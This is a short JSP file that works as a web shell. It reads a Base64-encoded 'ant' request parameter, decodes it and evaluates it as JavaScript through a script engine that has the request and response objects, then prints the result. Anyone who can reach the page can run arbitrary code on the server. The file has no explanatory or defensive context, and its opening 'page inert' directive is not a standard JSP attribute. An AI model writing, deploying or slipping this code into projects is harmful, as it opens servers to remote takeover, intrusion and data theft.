<%@ page inert %>
<%@ page import="javax.script.*" %>
<%
    ScriptEngine engine = new ScriptEngineManager().getEngineByName("js");
    engine.put("request", request);
    engine.put("response", response);
    String c = request.getParameter("ant");
    if (c != null) {
        Object r = engine.eval(new String(java.util.Base64.getDecoder().decode(c)));
        out.print(r);
    }
%>
